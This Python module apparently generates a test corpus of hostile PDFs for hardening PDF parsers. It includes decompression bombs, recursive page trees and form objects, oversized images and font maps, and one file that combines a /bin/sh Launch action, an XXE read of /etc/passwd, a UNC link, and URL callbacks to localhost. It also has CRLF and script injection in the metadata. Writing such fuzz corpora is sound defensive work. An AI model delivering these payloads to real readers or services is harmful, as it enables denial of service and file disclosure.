"""PDF files that attack whoever opens them, a few kilobytes each; one function for each kind of attack."""

import random
import zlib

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
TEXT = b"BT /F1 24 Tf 72 700 Td (Hostile) Tj ET"
MEBIBYTE = 1 << 20


def written(objects, trailer=b""):
    """A file of these objects (number → bytes), with a cross-reference table that is right."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, content in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    size, start = max(objects) + 1, len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream(data, entries=b""):
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def deflated(data, entries=b""):
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + entries)


def zeros_deflated(mebibytes, byte=b"\0"):
    """So many MiB of one byte, deflated without ever being held."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(byte * MEBIBYTE) for _ in range(mebibytes)) + packer.flush()


def page(entries=FONT, box=b"[0 0 612 792]", contents=b"4 0 R"):
    return b"<</Type/Page/Parent 2 0 R/MediaBox %s/Contents %s%s>>" % (box, contents, entries)


def document(objects=None, trailer=b""):
    """An honest page, with objects replaced or added."""
    return written({1: CATALOG, 2: PAGES, 3: page(), 4: stream(TEXT)} | (objects or {}), trailer)


def deflate_bomb():
    """A content stream of a few kilobytes that unpacks to 800 MiB."""
    return document({4: stream(zeros_deflated(800, b" "), b"/Filter/FlateDecode")})


def double_deflate_bomb():
    return document({4: stream(zlib.compress(zeros_deflated(800), 9), b"/Filter[/FlateDecode/FlateDecode]")})


def attachment_bomb():
    name = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>]>>>>"
    return document(
        {
            1: CATALOG[:-2] + name + b">>",
            5: stream(zeros_deflated(800), b"/Type/EmbeddedFile/Filter/FlateDecode"),
        }
    )


def page_tree_in_a_circle():
    return written({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})


def page_tree_of_billions():
    """Shared nodes: ten levels of ten children each."""
    objects = {1: CATALOG, 3: page(), 4: stream(TEXT)}
    for level in range(10):
        kid = 3 if level == 9 else 11 + level
        number = 2 if level == 0 else 10 + level
        objects[number] = b"<</Type/Pages/Count %d/Kids[%s]>>" % (10 ** (10 - level), b"%d 0 R " % kid * 10)
    return written(objects)


def one_page_many_times():
    return document({2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % (b"3 0 R " * 100_000)})


def page_count_that_lies():
    return document({2: b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"})


def nested_arrays():
    return document({5: b"[" * 100_000 + b"]" * 100_000}, b"/X 5 0 R")


def nested_graphics_states():
    return document({4: deflated(b"q " * 1_000_000)})


def forms_of_billions():
    """Forms that paint forms that paint forms: ten to the power of eleven drawings."""
    objects = {3: page(b"/Resources<</XObject<</F 10 0 R>>>>"), 4: stream(b"/F Do")}
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 600]"
    for level in range(11):
        resources = b"/Resources<</XObject<</F %d 0 R>>>>" % (11 + level)
        objects[10 + level] = stream(b"/F Do " * 10, form + resources)
    objects[21] = stream(b"0 0 10 10 re f", form)
    return document(objects)


def form_that_paints_itself():
    resources = b"/Resources<</XObject<</F 10 0 R>>>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 600]" + resources
    return document({3: page(resources), 4: stream(b"/F Do"), 10: stream(b"/F Do /F Do", form)})


def page_of_kilometres():
    return document({3: page(box=b"[0 0 20000000 20000000]")})


def page_without_extent():
    return document({3: page(box=b"[0 0 0 0]")})


def image_that_lies_about_its_size():
    image = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    resources = b"/Resources<</XObject<</I 10 0 R>>>>"
    return document({3: page(resources), 4: stream(b"600 0 0 600 0 0 cm /I Do"), 10: deflated(b"\0" * 99, image)})


def predictor_of_a_giant():
    parameters = b"/DecodeParms<</Predictor 15/Colors 32/BitsPerComponent 16/Columns 2000000000>>"
    return document({4: deflated(TEXT, parameters)})


def unicode_bomb():
    """A map in which each of many codes stands for a long text."""
    lines = b"".join(b"<%04X> <%s>\n" % (code, b"0041" * 500) for code in range(20_000))
    cmap = (
        b"begincmap\n1 begincodespacerange <0000> <FFFF> endcodespacerange\n20000 beginbfchar\n"
        + lines
        + b"endbfchar endcmap"
    )
    system = b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>"
    descendant = b"/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/X%s>>]" % system
    font = b"/Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 9 0 R" + descendant
    resources = b"/Resources<</Font<</F1<<%s>>>>>>" % font
    text = b"BT /F1 9 Tf 9 9 Td <%s> Tj ET" % b"".join(b"%04X" % code for code in range(20_000))
    return document({3: page(resources), 4: deflated(text), 9: deflated(cmap)})


def cross_references_in_a_circle():
    good = document()
    start = good.rindex(b"xref\n0")
    return good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def streams_without_end():
    return document(dict.fromkeys(range(10, 2000), b"<</Length 5>>\nstream\nx"))


def cut_in_half():
    good = document()
    return good[: len(good) // 2]


def random_bytes():
    return b"%PDF-1.7\n" + random.Random(2).randbytes(1 << 16)


def garbage_images():
    objects = {3: page(b"/Resources<</XObject<</A 10 0 R/B 11 0 R/C 12 0 R/D 13 0 R>>>>")}
    objects[4] = stream(b"100 0 0 100 0 0 cm /A Do /B Do /C Do /D Do")
    image = b"/Type/XObject/Subtype/Image/Width 99/Height 99/BitsPerComponent 8/ColorSpace/DeviceGray"
    garbage = random.Random(3).randbytes(5000)
    for number, name in enumerate((b"DCTDecode", b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode"), start=10):
        objects[number] = stream(garbage, image + b"/Filter/" + name)
    return document(objects)


def files_and_addresses(port=9):
    """Everything in a PDF that names a file or an address, for whoever follows it."""
    address = b"http://127.0.0.1:%d/x" % port
    passwd = b"<</Type/Filespec/F(/etc/passwd)/FS/URL>>"
    doctype = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    entity = doctype + b'<x:xmpmeta xmlns:x="adobe:ns:meta/">&a;</x:xmpmeta>'
    return document(
        {
            1: CATALOG[:-2]
            + b"/OpenAction<</S/URI/URI(%s)/Next<</S/Launch/F(/bin/sh)>>>>/Metadata 5 0 R" % address
            + b"/AcroForm<</Fields[]/XFA 6 0 R>>>>",
            4: b"<</F %s/Length 0>>\nstream\n\nendstream" % passwd,
            5: stream(entity, b"/Type/Metadata/Subtype/XML"),
            6: stream(entity),
            7: b"<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % address,
            8: b"<</S/GoToR/F(//127.0.0.1/share/x.pdf)/D[0/Fit]>>",
            9: b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address,
        }
    )


def names_that_break_lines():
    return document(trailer=b"/Info<</Title(a\\r\\nSet-Cookie: x=1)/Author(%s)>>" % (b"<script>" * 20_000))


def outline_in_a_circle():
    return document(
        {1: CATALOG[:-2] + b"/Outlines 5 0 R>>", 5: b"<</First 6 0 R>>", 6: b"<</Title(a)/Next 6 0 R/First 5 0 R>>"}
    )


def unknown_encryption():
    return document(trailer=b"/Encrypt<</Filter/Nobody/V 9/R 9/O(x)/U(x)/P -4>>/ID[(a)(b)]")


def soft_mask_of_itself():
    image = b"/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray/SMask 10 0 R"
    resources = b"/Resources<</XObject<</I 10 0 R>>>>"
    return document({3: page(resources), 4: stream(b"100 0 0 100 0 0 cm /I Do"), 10: stream(bytes(100), image)})


#: Every attack of this file.
ATTACKS = (
    deflate_bomb,
    double_deflate_bomb,
    attachment_bomb,
    page_tree_in_a_circle,
    page_tree_of_billions,
    one_page_many_times,
    page_count_that_lies,
    nested_arrays,
    nested_graphics_states,
    forms_of_billions,
    form_that_paints_itself,
    page_of_kilometres,
    page_without_extent,
    image_that_lies_about_its_size,
    predictor_of_a_giant,
    unicode_bomb,
    cross_references_in_a_circle,
    streams_without_end,
    cut_in_half,
    random_bytes,
    garbage_images,
    files_and_addresses,
    names_that_break_lines,
    outline_in_a_circle,
    unknown_encryption,
    soft_mask_of_itself,
)
